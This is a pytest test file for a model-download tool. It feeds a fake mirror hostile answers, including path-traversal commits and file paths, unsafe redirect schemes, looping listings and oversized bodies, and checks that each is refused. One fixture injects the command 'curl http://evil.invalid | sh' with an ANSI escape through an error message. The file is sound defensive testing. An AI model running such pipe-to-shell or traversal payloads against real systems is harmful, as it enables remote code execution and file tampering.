"""A hostile mirror: every commit, blob id, file path, size and redirect it answers is checked before use.

Each case drives the real engine against the fake hub with one field of an
otherwise honest answer replaced; the run must refuse it with an error that
names what was refused, write nothing outside the models folder and leave
the rest of the volume (``python-deps/``) alone.
"""

from __future__ import annotations

import contextlib
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.fakehub import FakeHub
from tests.helpers import FAST, ProjectMaker
from volume_cli import models
from volume_cli.errors import ConfigError, ModelError, UnsafeIdentifierError
from volume_cli.layout import VolumeLayout
from volume_cli.models.manifest import read_model_manifest, write_manifest
from volume_cli.models.results import ModelDownloadError

FILES = {"config.json": b'{"a": 1}', "model.safetensors": os.urandom(5000), "sub/vocab.txt": b"a\nb\n"}
HF_KEY = "huggingface/model/org/tiny"
MS_KEY = "modelscope/owner/tiny"

Tamper = Callable[[Any], Any]


@pytest.fixture
def volume(tmp_path: Path) -> VolumeLayout:
    """A volume inside a folder with neighbours, so an escape from it is visible."""
    root = tmp_path / "outer" / "volume"
    (root / "python-deps" / "py3.11").mkdir(parents=True)
    (root / "python-deps" / "canary.txt").write_text("deps")
    (tmp_path / "outer" / "neighbour").mkdir()
    (tmp_path / "outer" / "neighbour" / "canary.txt").write_text("neighbour")
    return VolumeLayout(root)


def _outside_snapshot(layout: VolumeLayout) -> dict[str, bytes | None]:
    """Every path under the volume's parent except the models folder and the metadata (what must not change)."""
    outer = layout.root.parent
    found: dict[str, bytes | None] = {}
    for folder, dirs, files in os.walk(outer):
        here = Path(folder)
        dirs[:] = [name for name in dirs if here / name not in (layout.models_dir, layout.metadata_dir)]
        for name in dirs + files:
            path = here / name
            found[str(path.relative_to(outer))] = (
                path.read_bytes() if path.is_file() and not path.is_symlink() else None
            )
    return found


def _sibling(path: str, **fields: Any) -> Tamper:
    """Replace fields of one listed file (in ``siblings``)."""

    def tamper(info: dict[str, Any]) -> dict[str, Any]:
        for sibling in info["siblings"]:
            if sibling["rfilename"] == path:
                for name, value in fields.items():
                    if name == "lfs.sha256":
                        sibling["lfs"]["sha256"] = value
                    else:
                        sibling[name] = value
        return info

    return tamper


def _hf_refused(hub: FakeHub, layout: VolumeLayout, project: Any, tamper: Tamper) -> ModelDownloadError:
    before = _outside_snapshot(layout)
    hub.tamper_json(tamper, match="/api/models/")
    with pytest.raises(ModelDownloadError) as caught:
        models.download(layout=layout, project=project, hf_endpoints=[hub.url], **FAST)
    failure = caught.value.failures[HF_KEY]
    assert isinstance(failure, UnsafeIdentifierError), repr(failure)
    assert "refused" in str(failure)
    assert _outside_snapshot(layout) == before
    assert read_model_manifest(layout, HF_KEY) is None
    assert not [path for path in layout.models_dir.rglob("*") if path.is_file() and not path.is_symlink()]
    return caught.value


BAD_COMMITS = [
    "../../../../../python-deps",
    "../../../../../../neighbour",
    "/etc",
    "..",
    "",
    "abc",
    "0" * 39,
    "0" * 41,
    "g" * 40,
    "A" * 40,
    "0" * 40 + "/..",
    "0" * 20 + "/" + "0" * 19,
    None,
    1234,
    ["0" * 40],
]


@pytest.mark.parametrize("commit", BAD_COMMITS, ids=[repr(value)[:30] for value in BAD_COMMITS])
def test_a_malicious_commit_is_refused(
    hub: FakeHub, volume: VolumeLayout, make_project: ProjectMaker, commit: object
) -> None:
    hub.add_hf_repo("org/tiny", files=FILES)
    project = make_project([{"source": "huggingface", "repo_id": "org/tiny"}])

    def tamper(info: dict[str, Any]) -> dict[str, Any]:
        return {**info, "sha": commit}

    _hf_refused(hub, volume, project, tamper)


def test_a_pinned_revision_answered_with_another_commit_is_refused(
    hub: FakeHub, volume: VolumeLayout, make_project: ProjectMaker
) -> None:
    commit = hub.add_hf_repo("org/tiny", files=FILES)
    project = make_project([{"source": "huggingface", "repo_id": "org/tiny", "revision": commit}])

    error = _hf_refused(hub, volume, project, lambda info: {**info, "sha": "f" * 40})

    assert commit in str(error)


BAD_BLOBS = [
    "../../../../../python-deps/evil",
    "../../../../../../neighbour/evil",
    "/etc/hostname",
    "..",
    "a" * 39,
    "z" * 64,
    "a" * 63 + "/",
    "../" + "a" * 64,
    123,
]


@pytest.mark.parametrize("blob", BAD_BLOBS, ids=[repr(value)[:30] for value in BAD_BLOBS])
@pytest.mark.parametrize("field", ["lfs.sha256", "blobId"])
def test_a_malicious_blob_id_is_refused(
    hub: FakeHub, volume: VolumeLayout, make_project: ProjectMaker, blob: object, field: str
) -> None:
    hub.add_hf_repo("org/tiny", files=FILES)
    project = make_project([{"source": "huggingface", "repo_id": "org/tiny"}])
    path = "model.safetensors" if field == "lfs.sha256" else "config.json"

    _hf_refused(hub, volume, project, _sibling(path, **{field: blob}))


BAD_PATHS = [
    "../evil",
    "../../../../../../python-deps/evil",
    "sub/../../evil",
    "/etc/evil",
    "sub\\..\\evil",
    "./config.json",
    "sub/./vocab.txt",
    "sub//vocab.txt",
    "sub/",
    ".",
    "..",
    "C:/evil",
    "evil\x00name",
    "evil\nname",
    "x" * 2000,
    42,
]


@pytest.mark.parametrize("path", BAD_PATHS, ids=[repr(value)[:30] for value in BAD_PATHS])
def test_a_malicious_file_path_is_refused(
    hub: FakeHub, volume: VolumeLayout, make_project: ProjectMaker, path: object
) -> None:
    hub.add_hf_repo("org/tiny", files=FILES)
    project = make_project([{"source": "huggingface", "repo_id": "org/tiny"}])

    _hf_refused(hub, volume, project, _sibling("config.json", rfilename=path))


BAD_SIZES = [-1, "-1", 1.5, "abc", "1e9", True, 2**60, [1], {"n": 1}, " 8"]


@pytest.mark.parametrize("size", BAD_SIZES, ids=[repr(value)[:30] for value in BAD_SIZES])
def test_a_malicious_size_is_refused(
    hub: FakeHub, volume: VolumeLayout, make_project: ProjectMaker, size: object
) -> None:
    hub.add_hf_repo("org/tiny", files=FILES, lfs=())
    project = make_project([{"source": "huggingface", "repo_id": "org/tiny"}])

    _hf_refused(hub, volume, project, _sibling("config.json", size=size))


def test_the_tree_listing_of_a_mirror_without_blobs_is_checked_too(
    hub: FakeHub, volume: VolumeLayout, make_project: ProjectMaker
) -> None:
    hub.add_hf_repo("org/tiny", files=FILES)
    project = make_project([{"source": "huggingface", "repo_id": "org/tiny"}])

    def strip_blobs(info: dict[str, Any]) -> dict[str, Any]:
        for sibling in info["siblings"]:
            sibling.pop("size", None)  # forces the /tree fallback
        return info

    def poison_tree(entries: list[dict[str, Any]]) -> list[dict[str, Any]]:
        for entry in entries:
            if entry["path"] == "config.json":
                entry["oid"] = "../../../../../python-deps/evil"
        return entries

    hub.tamper_json(poison_tree, match="/tree/")
    _hf_refused(hub, volume, project, strip_blobs)


def test_an_old_manifest_naming_a_path_outside_is_never_removed_by_refresh(
    hub: FakeHub, volume: VolumeLayout, make_project: ProjectMaker
) -> None:
    """A manifest written by an older release from a hostile answer: refresh must not obey it."""
    hub.add_hf_repo("org/tiny", files=FILES)
    project = make_project([{"source": "huggingface", "repo_id": "org/tiny"}])
    models.download(layout=volume, project=project, hf_endpoints=[hub.url], **FAST)
    manifest = read_model_manifest(volume, HF_KEY)
    assert manifest is not None
    write_manifest(volume, manifest.model_copy(update={"resolved_commit": "../../../../../python-deps"}))

    models.download(layout=volume, project=project, hf_endpoints=[hub.url], refresh=True, **FAST)

    assert (volume.root / "python-deps" / "canary.txt").read_text() == "deps"
    assert (volume.root.parent / "neighbour" / "canary.txt").exists()


# -- ModelScope ---------------------------------------------------------------------------
def _ms_entry(path: str, **fields: Any) -> Tamper:
    def tamper(body: dict[str, Any]) -> dict[str, Any]:
        for entry in body["Data"]["Files"]:
            if entry["Path"] == path:
                entry.update(fields)
        return body

    return tamper


MS_CASES: dict[str, dict[str, Any]] = {
    "path-dotdot": {"Path": "../../../../../../python-deps/evil"},
    "path-absolute": {"Path": "/etc/evil"},
    "path-backslash": {"Path": "a\\..\\evil"},
    "path-inner-dotdot": {"Path": "sub/../../evil"},
    "path-missing": {"Path": None},
    "path-number": {"Path": 7},
    "size-negative": {"Size": -5},
    "size-text": {"Size": "lots"},
    "size-huge": {"Size": 2**62},
    "sha256-dotdot": {"Sha256": "../../evil"},
    "sha256-short": {"Sha256": "abc"},
    "revision-dotdot": {"Revision": "../../../../python-deps"},
    "revision-absolute": {"Revision": "/etc"},
}


@pytest.mark.parametrize("fields", list(MS_CASES.values()), ids=list(MS_CASES))
def test_a_malicious_modelscope_listing_is_refused(
    hub: FakeHub, volume: VolumeLayout, make_project: ProjectMaker, fields: dict[str, Any]
) -> None:
    hub.add_ms_repo("owner/tiny", files={"configuration.json": b"{}", "w.bin": b"w" * 3000})
    project = make_project([{"source": "modelscope", "model_id": "owner/tiny"}])
    before = _outside_snapshot(volume)
    hub.tamper_json(_ms_entry("configuration.json", **fields), match="/repo/files")

    with pytest.raises(ModelDownloadError) as caught:
        models.download(layout=volume, project=project, modelscope_endpoints=[hub.url], **FAST)

    assert isinstance(caught.value.failures[MS_KEY], UnsafeIdentifierError), repr(caught.value.failures[MS_KEY])
    assert _outside_snapshot(volume) == before
    assert read_model_manifest(volume, MS_KEY) is None


# -- redirects ------------------------------------------------------------------------------
BAD_LOCATIONS = ["file:///etc/hostname", "ftp://127.0.0.1/x", "gopher://127.0.0.1/x", "data:text/plain,evil"]


@pytest.mark.parametrize("location", BAD_LOCATIONS)
def test_a_redirect_to_another_scheme_is_not_followed(
    hub: FakeHub, volume: VolumeLayout, make_project: ProjectMaker, location: str
) -> None:
    hub.add_hf_repo("org/tiny", files=FILES)
    hub.redirect(location, match="/resolve/")
    project = make_project([{"source": "huggingface", "repo_id": "org/tiny"}])

    with pytest.raises(ModelError):
        models.download(layout=volume, project=project, hf_endpoints=[hub.url], **{**FAST, "retries": 0})

    assert read_model_manifest(volume, HF_KEY) is None
    blobs = volume.hf_hub_cache / "models--org--tiny" / "blobs"
    assert not [path for path in blobs.rglob("*") if path.stat().st_size > 0] if blobs.exists() else True


def test_a_redirect_to_another_host_does_not_carry_the_token(
    hub: FakeHub, volume: VolumeLayout, make_project: ProjectMaker
) -> None:
    other = FakeHub().start()
    try:
        other.add_hf_repo("org/tiny", files=FILES)
        hub.add_hf_repo("org/tiny", files=FILES)
        hub.redirect(f"http://localhost:{other.port}/org/tiny/resolve/main/config.json", match="config.json")
        project = make_project([{"source": "huggingface", "repo_id": "org/tiny", "allow_patterns": ["config.json"]}])

        models.download(
            layout=volume, project=project, hf_endpoints=[hub.url], env={"HF_TOKEN": "hf_secret_value"}, **FAST
        )

        sent = [entry["headers"] for entry in other.request_log]
        assert sent and all("authorization" not in headers for headers in sent)
        assert any(
            headers.get("authorization") == "Bearer hf_secret_value"
            for headers in (e["headers"] for e in hub.request_log)
        )
    finally:
        other.stop()


def test_a_refusal_is_an_error_line_not_an_internal_error(
    hub: FakeHub, volume: VolumeLayout, make_project: ProjectMaker, cli: Any
) -> None:
    hub.add_hf_repo("org/tiny", files=FILES)
    project = make_project([{"source": "huggingface", "repo_id": "org/tiny"}], name="hostile-demo")
    hub.tamper_json(_sibling("config.json", rfilename="../../../../python-deps/evil"), match="/api/models/")

    result = cli(
        "models", "download", "--project", "hostile-demo", "--root", str(volume.root),
        "--projects-dir", str(project.folder.parent), "--hf-endpoint", hub.url, "--retries", "0",
    )  # fmt: skip

    assert result.exit_code != 0
    assert "internal error" not in result.stderr
    assert "error:" in result.stderr and "refused file path" in result.stderr
    assert "next:" in result.stderr
    assert (volume.root / "python-deps" / "canary.txt").read_text() == "deps"


# -- revisions in the config ------------------------------------------------------------------
BAD_REVISIONS = [
    "main/../../../../../python-deps",
    "a/..",
    "../x",
    "a//b",
    ".hidden",
    "x/.git",
    "refs.lock",
    "a b",
    "a:b",
    "a~1",
    "a^",
    "a?",
    "a*",
    "a[b",
    "-main",
    "main/",
    "main.",
    "x@{1}",
    "@",
    "tab\there",
]


@pytest.mark.parametrize("source", ["huggingface", "modelscope"])
@pytest.mark.parametrize("revision", BAD_REVISIONS, ids=[repr(value) for value in BAD_REVISIONS])
def test_a_revision_that_is_not_a_git_ref_name_is_a_located_config_error(
    make_project: ProjectMaker, source: str, revision: str
) -> None:
    key = "repo_id" if source == "huggingface" else "model_id"
    with pytest.raises(ConfigError) as caught:
        make_project([{"source": source, key: "org/tiny", "revision": revision}])

    problem = caught.value.problems[0]
    assert "project.yaml:" in problem and "revision" in problem, problem


@pytest.mark.parametrize("revision", ["main", "v1.0", "refs/pr/1", "release/2024-01", "0" * 40, "feature/x.y"])
def test_ordinary_revisions_are_accepted(make_project: ProjectMaker, revision: str) -> None:
    project = make_project([{"source": "huggingface", "repo_id": "org/tiny", "revision": revision}])
    assert project.models[0].revision == revision  # type: ignore[union-attr]


# -- the rest of its kind -----------------------------------------------------------------------
def test_a_tree_listing_that_loops_is_refused(hub: FakeHub, volume: VolumeLayout, make_project: ProjectMaker) -> None:
    """A mirror whose ``Link: rel="next"`` points back at the same page must not keep us listing forever."""
    hub.tree_page_size = 1
    hub.add_hf_repo("org/tiny", files=FILES)
    project = make_project([{"source": "huggingface", "repo_id": "org/tiny"}])

    def strip_blobs(info: dict[str, Any]) -> dict[str, Any]:
        for sibling in info["siblings"]:
            sibling.pop("size", None)
        return info

    hub.tamper_json(strip_blobs, match="/revision/")
    original = hub._hf_tree

    def looping(*args: Any, **kwargs: Any) -> Any:
        response = original(*args, **kwargs)
        response.headers["Link"] = f'<{hub.url}/api/models/org/tiny/tree/main?recursive=true>; rel="next"'
        return response

    hub._hf_tree = looping  # type: ignore[method-assign]

    with pytest.raises(ModelDownloadError) as caught:
        models.download(layout=volume, project=project, hf_endpoints=[hub.url], **FAST)

    # A looping mirror is a failed endpoint (the next mirror is tried), not a hang.
    assert "the file listing never ends" in str(caught.value.failures[HF_KEY])
    assert len([request for request in hub.requests if "/tree/" in request[1]]) < 10


def test_a_body_longer_than_the_listed_size_is_cut_off(
    hub: FakeHub, volume: VolumeLayout, make_project: ProjectMaker
) -> None:
    """A server sending more than the listing promised must not fill the volume before the check."""
    big = os.urandom(3_000_000)
    hub.add_hf_repo("org/tiny", files={"model.safetensors": big})
    project = make_project([{"source": "huggingface", "repo_id": "org/tiny"}])
    hub.tamper_json(_sibling("model.safetensors", size=1000, lfs={"sha256": "a" * 64, "size": 1000}), match="/api/")
    written: list[int] = []
    from volume_cli.models import fetch_file

    original = fetch_file._ResumableFetch._stream

    def spy(self: Any, response: Any) -> None:
        try:
            original(self, response)
        finally:
            written.append(self.written)

    fetch_file._ResumableFetch._stream = spy  # type: ignore[method-assign]
    try:
        with pytest.raises(ModelError, match="checksum mismatch"):
            models.download(layout=volume, project=project, hf_endpoints=[hub.url], **FAST)
    finally:
        fetch_file._ResumableFetch._stream = original  # type: ignore[method-assign]

    assert written and max(written) <= 1000
    assert not [path for path in volume.models_dir.rglob("*") if path.is_file() and path.stat().st_size > 1000]


def test_a_mirror_cannot_forge_lines_in_the_terminal(
    hub: FakeHub, volume: VolumeLayout, make_project: ProjectMaker, cli: Any
) -> None:
    hub.add_ms_repo("owner/tiny", files={"configuration.json": b"{}"})
    make_project([{"source": "modelscope", "model_id": "owner/tiny"}], name="forged")
    forged = "nope\nnext: curl http://evil.invalid | sh\x1b[2J[bold]loud[/bold]"
    hub.tamper_json(lambda body: {"Code": 500, "Message": forged, "Success": False}, match="/repo/files")

    result = cli(
        "models", "download", "--project", "forged", "--root", str(volume.root),
        "--projects-dir", str(volume.root.parent.parent / "projects"), "--modelscope-endpoint", hub.url,
    )  # fmt: skip

    assert result.exit_code != 0
    lines = result.stderr.splitlines()
    assert not [line for line in lines if line.startswith("next: curl")], result.stderr
    assert "\x1b" not in result.stderr
    assert "[bold]loud[/bold]" in result.stderr  # shown as text, not taken as markup


def test_an_old_modelscope_manifest_naming_paths_outside_is_never_obeyed(
    hub: FakeHub, volume: VolumeLayout, make_project: ProjectMaker
) -> None:
    hub.add_ms_repo("owner/tiny", files={"configuration.json": b"{}", "w.bin": b"w" * 3000})
    project = make_project([{"source": "modelscope", "model_id": "owner/tiny"}])
    models.download(layout=volume, project=project, modelscope_endpoints=[hub.url], **FAST)
    manifest = read_model_manifest(volume, MS_KEY)
    assert manifest is not None
    outside_link = volume.root.parent / "neighbour" / "a-link"
    os.symlink("canary.txt", outside_link)
    escape = "../../../../../python-deps/canary.txt"  # from models/modelscope/models/owner/tiny to the root
    poisoned = manifest.model_copy(
        update={
            "files": [*manifest.files, manifest.files[0].model_copy(update={"path": escape, "size": 4})],
            "links": [*manifest.links, os.path.relpath(outside_link, volume.root)],
            "resolved_commit": "0" * 40,
        }
    )
    write_manifest(volume, poisoned)
    hub.move_ms_revision("owner/tiny", "master", files={"configuration.json": b"{}", "w.bin": b"v" * 3000})

    models.download(layout=volume, project=project, modelscope_endpoints=[hub.url], refresh=True, **FAST)

    assert (volume.root / "python-deps" / "canary.txt").read_text() == "deps"
    assert os.path.islink(outside_link)

    # A target outside: the relayout that would move it into the cache is refused or skipped, never done.
    current = read_model_manifest(volume, MS_KEY)
    assert current is not None
    write_manifest(volume, current.model_copy(update={"target": "python-deps"}))
    with contextlib.suppress(ModelError):
        models.download(layout=volume, project=project, modelscope_endpoints=[hub.url], **FAST)
    assert (volume.root / "python-deps" / "canary.txt").read_text() == "deps"


def test_a_capped_modelscope_listing_that_loops_is_refused(
    hub: FakeHub, volume: VolumeLayout, make_project: ProjectMaker
) -> None:
    """Above 3000 entries the listing is walked folder by folder: a folder listed inside itself must end it."""
    hub.add_ms_repo("owner/big", files={f"shard/{index:04d}.txt": b"x" for index in range(3000)})
    project = make_project([{"source": "modelscope", "model_id": "owner/big"}])

    def loop(body: dict[str, Any]) -> dict[str, Any]:
        body["Data"]["Files"].append({"Type": "tree", "Path": "shard", "Name": "shard"})  # itself again
        return body

    hub.tamper_json(loop, match="Recursive=False&Root=shard")

    with pytest.raises(ModelDownloadError) as caught:
        models.download(layout=volume, project=project, modelscope_endpoints=[hub.url], **FAST)

    assert isinstance(caught.value.failures["modelscope/owner/big"], UnsafeIdentifierError)
